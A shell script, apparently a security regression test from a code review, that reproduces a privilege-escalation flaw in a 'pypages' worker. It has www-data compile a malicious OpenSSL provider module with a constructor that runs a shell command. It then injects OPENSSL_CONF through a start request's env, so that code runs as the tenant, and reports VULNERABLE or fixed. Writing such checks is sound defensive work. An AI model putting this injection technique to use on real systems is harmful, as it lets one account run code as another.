#!/bin/sh
# F1b: as F1, by OPENSSL_CONF: the start request's env names a config www-data wrote,
# which loads an OpenSSL provider module (.so, built here with cc) when the worker imports
# hashlib: www-data's code runs as the tenant before owner.py checks anything.
# Run as root from the worktree after `npm run -s build` (needs cc).
set -eu
here=$(cd "$(dirname "$0")" && pwd)
name=pprv$$
useradd --no-create-home --home-dir /nonexistent --shell /usr/sbin/nologin --user-group "$name"
evil=$(mktemp -d /tmp/rv-ossl-XXXXXX); chown www-data: "$evil"; chmod 755 "$evil"
req=$(mktemp /tmp/rv-req-XXXXXX)
trap 'pkill -KILL -u "$name" 2>/dev/null || true; userdel "$name" 2>/dev/null || true; rm -rf "$req" "$evil"' EXIT
setpriv --reuid www-data --regid www-data --clear-groups sh -c "
  mkdir '$evil/out'; chmod 777 '$evil/out'
  printf '#include <stdlib.h>\n__attribute__((constructor)) static void f(void) { system(\"id > $evil/out/id\"); }\nint OSSL_provider_init(void) { return 0; }\n' > '$evil/p.c'
  cc -shared -fPIC -o '$evil/evil.so' '$evil/p.c'
  printf 'openssl_conf = init\n[init]\nproviders = prov\n[prov]\nevil = evil_sect\n[evil_sect]\nmodule = $evil/evil.so\nactivate = 1\n' > '$evil/o.cnf'"
uid=$(id -u "$name"); gid=$(id -g "$name")
cat >"$req" <<J
[{"pypages":"start","id":1,"python":"/usr/bin/python3","args":["-u","-m","pypages_worker","--root","/nonexistent"],"cwd":"/","env":{"OPENSSL_CONF":"$evil/o.cnf"},"user":{"uid":$uid,"gid":$gid}}]
J
"$here/../review-pd/run-hostile.sh" "$req" >/dev/null 2>&1 || true
if [ -s "$evil/out/id" ]; then echo "VULNERABLE: www-data's OpenSSL module ran as the tenant: $(cat "$evil/out/id")"; exit 1; fi
echo "not reproduced (fixed): no code of www-data's ran as $name"
